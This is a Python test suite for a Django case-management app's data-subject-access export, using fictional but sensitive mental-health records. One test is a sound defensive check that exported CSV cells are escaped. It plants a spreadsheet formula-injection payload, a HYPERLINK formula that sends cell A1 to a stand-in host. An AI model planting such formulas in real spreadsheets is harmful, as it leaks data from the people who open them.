"""The subject access export: a fresh code first, then a ZIP with the whole record, the access log and
the disclosures; every model that refers to a person is exported or left out on purpose."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile

import pytest
from django.apps import apps
from django.db import models
from django.urls import URLPattern, URLResolver, get_resolver

from liaison.core.models import AuditEvent
from liaison.identification.models import VulnerabilityFlag
from liaison.people.models import Person
from liaison.rights.export import (
    DISCLOSURES,
    NOT_EXPORTED,
    export_plan,
    exported_models,
    person_record,
)
from tests.secondfactor import authenticator, current_code

FILES = {"index.html", "style.css", "record.json", "access-log.csv", "disclosures.csv"}


def _export(client, sar, code):
    return client.post(f"/subject-access/{sar.pk}/export", {"code": code})


def _zip(response) -> dict[str, bytes]:
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    return {name: archive.read(name) for name in archive.namelist()}


def _csv(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


# --- re-authentication ---------------------------------------------------------------------------------


@pytest.mark.parametrize("given", ["", "12345", "abcdef", "wrong", "replayed"])
def test_the_export_needs_a_fresh_code(lead_client, team_lead, sar, given):
    good = current_code(authenticator(team_lead))
    if given == "wrong":
        code = f"{(int(good) + 1) % 1_000_000:06d}"
    elif given == "replayed":
        authenticator(team_lead).verify_token(good)  # used a moment ago (to sign in, say)
        code = good
    else:
        code = given
    response = _export(lead_client, sar, code)
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    assert "authenticator app" in response.content.decode()
    assert not AuditEvent.objects.filter(action="rights.sar_export").exists()
    failed = AuditEvent.objects.get(action="rights.sar_reauth_failed")
    assert (failed.actor_id, failed.object_id, failed.person_id) == (team_lead.pk, str(sar.pk), sar.person_id)
    sar.refresh_from_db()
    assert sar.fulfilled_at is None


def test_the_export_is_a_zip_download_that_is_never_cached_and_is_audited(lead_client, team_lead, sar):
    response = _export(lead_client, sar, current_code(authenticator(team_lead)))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert response["Content-Disposition"] == f'attachment; filename="subject-access-request-{sar.pk}.zip"'
    assert response["Cache-Control"] == "no-store"
    assert set(_zip(response)) == FILES
    event = AuditEvent.objects.get(action="rights.sar_export")
    assert (event.actor_id, event.person_id, event.object_id) == (team_lead.pk, sar.person_id, str(sar.pk))
    assert event.detail["request_id"] == sar.pk
    sar.refresh_from_db()
    assert sar.fulfilled_at is not None and sar.fulfilled_by == team_lead
    # Answered, it leaves the team's list of open requests.
    assert f"Request {sar.pk}<" not in lead_client.get("/subject-access").content.decode()


def test_nobody_but_the_team_lead_gets_an_export(request, sar):
    from tests.rights.conftest import client_for

    for who in ("practitioner", "outsider", "outsider_lead", "commissioner"):
        user = request.getfixturevalue(who)
        response = _export(client_for(user), sar, current_code(authenticator(user)))
        assert response.status_code == 404, who
        assert AuditEvent.objects.filter(action="access.denied", actor_id=user.pk).exists()
    assert not AuditEvent.objects.filter(action="rights.sar_export").exists()


# --- what is in it -------------------------------------------------------------------------------------


def _labels_with_rows(record: dict, node=None) -> set[str]:
    node = node or export_plan()
    found = set()
    for child in node.children:
        for row in record.get(child.key, []):
            found.add(child.label)
            found |= _labels_with_rows(row, child)
    return found


@pytest.fixture
def exported(full_record, lead_client, team_lead):
    person, sar = full_record
    response = _export(lead_client, sar, current_code(authenticator(team_lead)))
    assert response.status_code == 200
    return person, sar, _zip(response)


def test_record_json_holds_every_kind_of_record_about_the_person(exported):
    person, sar, files = exported
    document = json.loads(files["record.json"])
    record = document["person"]
    assert document["subject_access_request"] == sar.pk
    # One or more rows of every kind the walk reaches: nothing that refers to the person is missing.
    assert _labels_with_rows(record) == exported_models() - {"people.person"}
    assert (record["id"], record["given_name"], record["date_of_birth"]) == (person.pk, "Alex", "1990-05-18")
    assert "given_name_search" not in record and "version" not in record
    episode = record["episodes"][0]
    assert {"statuses", "contacts", "tasks", "screenings", "assessments", "plan_actions"} <= set(episode)
    screening = episode["screenings"][0]
    assert (
        screening["answers"]["1"] == 1 and screening["total"] == 2 and screening["status_label"] == "Complete"
    )
    assessment = episode["assessments"][0]
    assert assessment["needs"][0]["key"] == "money" and assessment["orders"][0]["reason"]
    assert episode["plan_actions"][0]["description"] == "Check the claim"
    assert episode["source_arrivals"][0]["flags"][0]["flag"] == str(
        VulnerabilityFlag.objects.get(code="adhd")
    )
    referral = record["partner_referrals"][0]
    assert referral["reason"] == "Talking about ending his life in the cell"
    assert referral["flags"]  # the vulnerabilities the partner noticed, by name
    assert referral["referred_by"]  # staff and partners by name, not by id
    change = record["field_changes"][0]
    assert (change["field"], change["old_value"], change["new_value"]) == (
        "date_of_birth",
        "1990-05-17",
        "1990-05-18",
    )
    assert change["reason"] == "He showed his passport at the court"
    dispute = record["field_disputes"][0]
    assert (dispute["field"], dispute["person_says"]) == ("ethnicity", "I am White Irish, not 'not known'")
    assert record["subject_access_requests"][0]["id"] == sar.pk
    assert record["break_glass_grants"][0]["reason"] == "Southport custody phoned about him"
    assert set(document["not_included"]) == set(NOT_EXPORTED)


def test_record_json_holds_the_service_work_in_plain_words(exported):
    """Referrals with every step, appointments, advice with actions and outcomes, every version of the
    crisis plan, crisis events, drop-in visits and the tasks rules made: named, not coded."""
    _, _, files = exported
    episode = json.loads(files["record.json"])["person"]["episodes"][0]
    referral = episode["referrals"][0]
    assert (referral["service"], referral["need_key_label"], referral["status_label"]) == (
        "Harbour Housing Advice",
        "Housing",
        "Appointment booked",
    )
    assert referral["reason"] == "Needs somewhere to stay after court"
    assert referral["consent_label"] == "The person agreed to share their details"
    assert [step["status_label"] for step in referral["statuses"]] == [
        "Draft",
        "Sent",
        "Accepted",
        "Appointment booked",
    ]
    assert referral["statuses"][1]["note"] == "Emailed" and referral["statuses"][1]["by"]
    appointment = episode["appointments"][0]
    assert (appointment["referral_id"], appointment["service"]) == (referral["id"], "Harbour Housing Advice")
    assert (appointment["place"], appointment["travel_needs"], appointment["attendance_label"]) == (
        "The service's front desk",
        "Bus fare",
        "Upcoming",
    )
    advice = episode["advice_records"][0]
    assert (advice["advice_type_label"], advice["benefit_label"], advice["need_key_label"]) == (
        "Benefit claim",
        "Universal Credit",
        "Money, benefits and debt",
    )
    assert advice["summary"] == "Universal Credit stopped while on remand" and advice["adviser"]
    assert advice["actions"][0]["what"] == "Phoned the DWP"
    outcome = advice["outcomes"][0]
    assert (outcome["kind_label"], outcome["amount"], outcome["frequency_label"]) == (
        "Award made",
        "393.45",
        "Every month",
    )
    plans = {plan["number"]: plan for plan in episode["crisis_plans"]}
    assert plans[1]["status_label"] == "Complete" and plans[2]["status_label"] == "Draft"
    assert plans[1]["warning_signs"] == "I stop sleeping and stop answering the phone"
    assert plans[2]["warning_signs"] == "I stop sleeping, and I stop eating"
    assert plans[1]["people_to_ask"] == [{"name": "Sam", "how": "07700 900123"}]
    event = episode["crisis_events"][0]
    assert (event["what_happened"], event["what_helped"]) == ("Went to the bridge at night", "Calling Sam")
    visit = episode["drop_in_attendances"][0]
    assert visit["session"].startswith("Drop-in at Harbour Café, back room, ")
    assert any(c["id"] == visit["contact_id"] for c in episode["contacts"])  # the visit is a contact too
    rules = {task["rule"] for task in episode["tasks"]}
    assert {"appointment.check_attendance", "advice.same_day"} <= rules
    assert all("dedupe_key" not in task for task in episode["tasks"])  # the rule's own bookkeeping


def test_the_team_s_notes_on_services_and_other_people_stay_out_of_the_export(exported):
    """The team's local knowledge and named contacts at a service, and a drop-in session's notes (which
    name other people), are not about the person: none of it is in any file."""
    _, _, files = exported
    for name, content in files.items():
        text = content.decode("utf-8-sig", errors="replace")
        for secret in ("fast-tracks ours", "Jo Quayside", "01632 960111", "Jordan Example"):
            assert secret not in text, (name, secret)
    assert not {"directory.localknowledge", "directory.namedcontact", "outreach.dropinsession"} & (
        exported_models() | set(NOT_EXPORTED)
    )


def test_index_html_lists_the_service_work_by_name(exported):
    _, _, files = exported
    html = files["index.html"].decode()
    for name in (
        "Referrals to other services",
        "Each step of those referrals",
        "Appointments with those services",
        "Housing and benefits advice",
        "Crisis plans, every version",
        "Crises they told the team about",
        "Visits to drop-in sessions",
    ):
        assert name in html


def test_the_access_log_names_every_event_about_the_person_and_ends_with_this_export(exported, team_lead):
    person, sar, files = exported
    rows = _csv(files["access-log.csv"])
    assert list(rows[0]) == ["event", "when", "who", "team", "role", "what", "via"]
    expected = AuditEvent.objects.filter(person_id=person.pk).count()
    assert len(rows) >= expected
    last = rows[-1]
    assert last["what"] == "Exported the record for a subject access request"
    assert last["who"] == str(team_lead) and last["role"] == "Team lead" and last["team"] == "Northtown L&D"
    whats = {row["what"] for row in rows}
    assert {
        "Referred the person to the team",
        "Broke the glass",
        "Recorded a subject access request",
    } <= whats
    assert any(row["via"] == "relationship" for row in rows)


def test_disclosures_list_the_disclosure_log_partner_facing_events_and_exports(exported):
    """Art. 15(1)(c): every report opened or downloaded and every referral sent is a row, with the
    recipient, what, the information, the basis and how; beside them the justice partner's referral and
    the exports, oldest first, ending with this export."""
    from liaison.consent.models import Disclosure

    person, sar, files = exported
    rows = _csv(files["disclosures.csv"])
    assert list(rows[0]) == [
        "when",
        "to whom",
        "kind of recipient",
        "what",
        "information",
        "basis",
        "how",
        "who",
        "team",
        "role",
        "logged as",
    ]
    assert [row["what"] for row in rows] == [
        "Referred the person to the team",
        "Referral to Harbour Housing Advice",
        "Court report, version 1",
        "Court report, version 1",
        "Exported the record for a subject access request",
    ]
    assert rows[0]["role"] == "Justice partner"
    referral, link, download = rows[1:4]
    assert (referral["kind of recipient"], referral["information"], referral["basis"]) == (
        "Other services",
        "A summary of needs",
        "The person's consent",
    )
    assert (link["to whom"], link["kind of recipient"], link["how"]) == (
        "Jo Clerk, Northtown Magistrates' Court",
        "Court",
        "Opened through a secure link",
    )
    assert link["information"] == "Recommendations only; A summary of needs"
    assert link["basis"] == "The person's consent" and link["who"] and link["team"] == "Northtown L&D"
    assert (download["to whom"], download["how"]) == (
        "Pat Officer, Northtown Probation Delivery Unit",
        "Downloaded to send by secure email",
    )
    assert download["basis"] == (
        "Without consent: to prevent serious harm to the person or others, approved by a team lead"
    )
    logged = {
        f"disclosure log {pk}" for pk in Disclosure.objects.filter(person=person).values_list("pk", flat=True)
    }
    assert {row["logged as"] for row in rows[1:4]} == logged
    assert "subject access" in rows[-1]["to whom"] and rows[-1]["logged as"].startswith("access log ")
    # Staff reading the record are in the access log, not the disclosures; nor is the disclosure log's
    # own audit event listed twice.
    whats = {row["what"] for row in rows}
    assert "Viewed the record" not in whats
    assert set(DISCLOSURES) >= {"rights.sar_export", "screening.export", "referral.view"}
    assert not {"disclosure.record", "report_link.open", "report.download"} & set(DISCLOSURES)


def test_record_json_holds_consent_sharing_and_reports(exported):
    """Consents with what they cover and their withdrawal, the lawful basis and its decision, every
    disclosure with its basis, the report with each version, the link (never its secret) and the
    recipient's feedback."""
    from liaison.reports.models import ShareLink
    from tests.rights.conftest import BASIS_REASON, FEEDBACK_WORDS, WITHDRAWN_NOTE

    _, _, files = exported
    record = json.loads(files["record.json"])["person"]
    consents = {c["note"]: c for c in record["consents"]}
    police = consents["Happy for the custody sergeant to know what we advise"]
    assert police["withdrawn_at"] and police["withdrawal_note"] == WITHDRAWN_NOTE and police["withdrawn_by"]
    assert [(s["recipient_kind_label"], s["content_kind_label"]) for s in police["scopes"]] == [
        ("Police", "Recommendations only")
    ]
    assert all(c["purpose_label"] and c["decision_label"] and c["recorded_by"] for c in consents.values())
    basis = record["sharing_bases"][0]
    assert (basis["reason"], basis["status_label"], basis["basis_label"]) == (
        BASIS_REASON,
        "Approved",
        "To prevent serious harm to the person or others",
    )
    assert basis["requested_by"] and basis["decided_by"]
    disclosures = {(d["what"], d["method"]): d for d in record["disclosures"]}
    assert len(disclosures) == 3
    download = disclosures[("Court report, version 1", "download")]
    assert (download["basis_label"], download["sharing_basis_id"]) == (
        "A lawful basis for sharing without consent, approved by a team lead",
        basis["id"],
    )
    assert download["recipient_name"] == "Pat Officer, Northtown Probation Delivery Unit"
    report = record["episodes"][0]["reports"][0]
    assert (report["kind_label"], report["recipient_kind_label"]) == ("Court report", "Court")
    versions = {v["number"]: v for v in report["versions"]}
    assert versions[1]["signed_off_by"] and versions[2]["signed_off_at"] is None
    assert any("treatment requirement" in section["text"] for section in versions[1]["sections"])
    link = versions[1]["links"][0]
    assert (link["recipient_name"], link["open_count"]) == ("Jo Clerk", 1)
    assert "digest" not in link
    assert link["feedback"][0]["what_else"] == FEEDBACK_WORDS and link["feedback"][0]["usefulness"] == 4
    # The link's secret is never in any file: not its digest (the token itself is never stored).
    digest = ShareLink.objects.get().digest
    for name, content in files.items():
        assert digest not in content.decode("utf-8-sig", errors="replace"), name


def test_index_html_names_consent_and_reports(exported):
    _, _, files = exported
    html = files["index.html"].decode()
    for name in (
        "Consents: to be assessed, and to share information",
        "Decisions to share information without consent",
        "Information given to people outside the team",
        "Reports to police, courts and probation",
        "Every version of those reports",
        "What the people sent a report said about it",
    ):
        assert name in html


def test_index_html_says_what_is_included_and_when_the_answer_was_due(exported):
    from liaison.core.presenters import long_date

    person, sar, files = exported
    html = files["index.html"].decode()
    assert '<html lang="en-GB">' in html and '<link rel="stylesheet" href="style.css">' in html
    assert f"Subject access request {sar.pk}" in html
    assert long_date(sar.due_on) in html and long_date(sar.received_on) in html
    for name in ("record.json", "access-log.csv", "disclosures.csv"):
        assert name in html
    assert "Alex Rivers" in html
    assert "I am White Irish" in html  # the dispute, with the person's own words
    assert "<script" not in html and "style=" not in html and "http" not in html.replace("ico.org.uk", "")


def test_spreadsheet_cells_never_start_like_a_formula(sar, team_a):
    from liaison.core.access import get_person_for_user
    from liaison.core.models import Role
    from liaison.rights.export import LOG_HEADER, logs_for
    from liaison.rights.export import _csv as export_csv
    from tests.factories import member

    viewer = member(team_a, Role.PRACTITIONER, "formula")
    viewer.display_name = '=HYPERLINK("http://example.invalid/?"&A1,"Open")'
    viewer.save()
    get_person_for_user(viewer, sar.person_id)
    rows = _csv(export_csv(LOG_HEADER, logs_for(sar.person).access))
    assert "'" + viewer.display_name in [row["who"] for row in rows]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())


# --- nothing silently missed ---------------------------------------------------------------------------


def _leads_to_person(model: type[models.Model], seen: frozenset = frozenset()) -> bool:
    """Whether foreign keys lead from `model` to a person, found without the export's own walk."""
    if model is Person:
        return True
    return any(
        f.is_relation
        and isinstance(f.related_model, type)
        and f.related_model not in seen
        and f.related_model is not model
        and _leads_to_person(f.related_model, seen | {model})
        for f in model._meta.concrete_fields
    )


def test_every_model_that_refers_to_a_person_is_exported_or_left_out_on_purpose():
    exported = exported_models()
    missing = []
    for model in apps.get_models(include_auto_created=True):
        label = model._meta.label_lower
        if model is Person or not _leads_to_person(model):
            continue
        owner = model._meta.auto_created  # a many-to-many table goes with the model that has the field
        covered = label in exported or label in NOT_EXPORTED
        if owner and owner._meta.label_lower in exported:
            covered = True
        if not covered:
            missing.append(label)
    assert not missing, (
        "These models refer to a person but are neither exported nor listed, with the reason, in "
        f"rights.export.NOT_EXPORTED: {missing}"
    )
    # The walk found the ones the brief names, and the exclusions are real models, not exported.
    assert {
        "people.alias",
        "people.personcontact",
        "episodes.episode",
        "episodes.episodestatus",
        "episodes.contact",
        "episodes.task",
        "screening.screening",
        "assessment.assessment",
        "assessment.need",
        "assessment.planaction",
        "partners.partnerreferral",
        "rights.fieldchange",
        "rights.fielddispute",
    } <= exported
    # Issue 6's records about the person are found by the walk; the team's own records (training
    # sessions, outcome commentary, report settings) name no person and are not walked.
    assert {
        "consent.consent",
        "consent.consentscope",
        "consent.sharingbasis",
        "consent.disclosure",
        "reports.report",
        "reports.reportversion",
        "reports.sharelink",
        "reports.partnerfeedback",
    } <= exported
    team_records = {
        "training.trainingsession",
        "training.knowledgescore",
        "outcomes.commentary",
        "reports.reportsettings",
    }
    assert not team_records & (exported | set(NOT_EXPORTED))
    real = {m._meta.label_lower for m in apps.get_models(include_auto_created=True)}
    assert team_records <= real and set(NOT_EXPORTED) <= real
    assert not set(NOT_EXPORTED) & exported
    assert all(reason.strip() for reason in NOT_EXPORTED.values())


# A row hangs under its nearest record; a link that may be empty would drop rows that belong to the
# person through another path. Only these may be empty, each with the reason.
MAY_BE_UNLINKED = {
    "identification.arrival": "an arrival not yet made into an episode is not known to be anyone yet",
}


def test_every_row_hangs_from_a_required_link():
    stack = list(export_plan().children)
    loose = []
    while stack:
        node = stack.pop()
        stack.extend(node.children)
        nullable = [link for link in node.links if node.model._meta.get_field(link.removesuffix("_id")).null]
        if nullable and node.label not in MAY_BE_UNLINKED:
            loose.append((node.label, nullable))
    assert not loose


def test_the_export_runs_a_bounded_number_of_queries(full_record, django_assert_max_num_queries):
    person, _ = full_record
    with django_assert_max_num_queries(len(exported_models()) * 2 + 5):
        person_record(person)


def _rights_routes(patterns=None, prefix: str = ""):
    for pattern in get_resolver().url_patterns if patterns is None else patterns:
        if isinstance(pattern, URLResolver):
            yield from _rights_routes(pattern.url_patterns, prefix + str(pattern.pattern))
        elif isinstance(pattern, URLPattern) and pattern.callback.__module__.startswith("liaison.rights"):
            yield prefix + str(pattern.pattern)


def test_no_rights_address_carries_anything_but_record_ids():
    routes = list(_rights_routes())
    assert len(routes) == 16
    for route in routes:
        # Record ids only: a name, NHS number or date of birth could only travel as another kind of part.
        assert all(part.startswith("int:") for part in re.findall(r"<([^>]+)>", route)), route
